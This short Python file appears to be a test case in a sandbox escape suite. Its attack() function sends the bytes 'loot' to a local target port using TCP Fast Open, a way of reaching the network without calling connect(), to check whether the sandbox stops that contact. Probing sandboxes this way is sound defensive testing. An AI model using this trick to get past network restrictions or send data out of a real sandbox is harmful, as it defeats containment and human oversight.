"""Sends data with the first packet, without a call of connect()."""

import socket

from tests.sandbox.escape.target import Harm, Target

HARM = Harm.CONTACT


def attack(target: Target) -> bytes:
    socket.socket().sendto(b"loot", socket.MSG_FASTOPEN, ("127.0.0.1", target.tcp_port))
    return b""
